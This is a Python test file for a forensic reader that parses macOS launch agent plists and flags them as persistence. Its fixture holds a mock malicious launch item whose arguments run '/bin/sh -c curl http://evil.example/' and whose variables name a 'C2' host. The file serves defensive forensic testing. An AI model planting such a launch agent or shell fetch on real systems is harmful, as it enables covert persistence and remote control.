"""macOS launch agents and daemons."""

from __future__ import annotations

import plistlib

import pytest
from tests.evidence.artefact_kit import bears_damage, read_member, read_place, shows_plant

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.launch_items import LaunchItems
from nachsorge.model.words import Kind, Reason, Status, Telemetry

ITEM = {
    "Label": "com.x.agent",
    "ProgramArguments": ["/bin/sh", "-c", "curl http://evil.example/"],
    "EnvironmentVariables": {"C2": "other.example"},
    "Odd": [{"deep": b"bytes.example"}],
}


@pytest.mark.parametrize("form", [plistlib.FMT_XML, plistlib.FMT_BINARY])
def test_an_item(form):
    body = plistlib.dumps(ITEM, fmt=form)
    assert LaunchItems().accepts(body, "Library/LaunchAgents/com.x.agent.plist") == 92
    (record,), reading = read_member(LaunchItems(), body, "x/LaunchAgents/com.x.agent.plist")
    assert (record.telemetry, reading.status) == (Telemetry.PERSISTENCE, Status.READ)
    values = {(value.kind, value.text) for value in record.values}
    assert (Kind.PATH, "/bin/sh") in values and (Kind.TEXT, "/bin/sh -c curl http://evil.example/") in values
    assert {"other.example", "bytes.example", "Odd"} <= {text for _, text in values}
    assert reading.seen[0].spans == ()


def test_nothing_of_a_property_list_goes_unsearched(shared_data):
    place = shared_data / "plaso-host-artefacts/plist/launchd.plist"
    (record,), _ = read_place(LaunchItems(), place)
    assert record.event["Label"] == "com.foobar.test" and record.event["Program"] == "/Test"
    assert {"/tmp/queue", "/tmp/chroot", "nobody", "Interactive"} <= {value.text for value in record.values}


@pytest.mark.parametrize("name", ["launchd.plist", "launchd.minimal.plist", "launchd.noprogram.plist"])
def test_real_items_are_recognised_without_their_folder(shared_data, name):
    body = (shared_data / "plaso-host-artefacts/plist" / name).read_bytes()
    reader = reader_for(body, name)
    assert reader is not None and reader.name == "launch_items"


def test_others_are_none():
    assert LaunchItems().accepts(plistlib.dumps({"Label": "x"}), "x.plist") == 0
    assert LaunchItems().accepts(b"Label Program", "LaunchAgents/x.plist") == 0
    _, reading = read_member(LaunchItems(), plistlib.dumps(["x"]))
    assert reading.reason is Reason.CORRUPT


@pytest.mark.parametrize("form", [plistlib.FMT_XML, plistlib.FMT_BINARY])
def test_damage_and_plant(form):
    body = plistlib.dumps(ITEM, fmt=form)
    bears_damage(LaunchItems(), body)
    shows_plant(LaunchItems(), body)
